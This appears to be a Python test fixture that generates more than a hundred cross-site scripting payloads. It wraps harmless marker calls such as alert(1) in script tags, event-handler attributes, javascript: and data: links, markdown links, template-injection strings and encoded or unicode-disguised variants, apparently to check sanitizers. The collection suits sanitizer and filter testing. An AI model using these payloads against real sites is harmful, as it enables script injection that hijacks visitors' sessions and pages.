"""Texts that run as scripts where a page reads text as HTML, as an address or as a template."""

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "window.ran.push(1)")
_HTML = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href=javascript:{}>x",
    "<math><mi xlink:href=javascript:{}>x",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<marquee onstart={}>",
    "<object data=javascript:{}>",
    "<style>@import 'javascript:{}'</style>",
    "<link rel=stylesheet href=javascript:{}>",
    "<base href=javascript:{}//>",
    "<form action=javascript:{}><button>x",
    '"><img src=x onerror={}>',
    "'-{}-'",
    "{{{{{}}}}}",
    "${{{}}}",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
_LINKS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "javascript://example.org/%0a{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "https://example.org/'onmouseover='{}",
    'https://example.org/"onclick="{}',
    "https://example.org/<script>{}</script>",
    "[x](javascript:{})",
    "![x](javascript:{})",
)
_ODD = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "__proto__",
    "constructor",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<x onclick=alert(1)>click",
)

PAYLOADS = tuple(frame.format(call) for frame in (*_HTML, *_LINKS) for call in _CALLS[:3]) + _ODD
"""More than a hundred."""
assert len(PAYLOADS) > 100
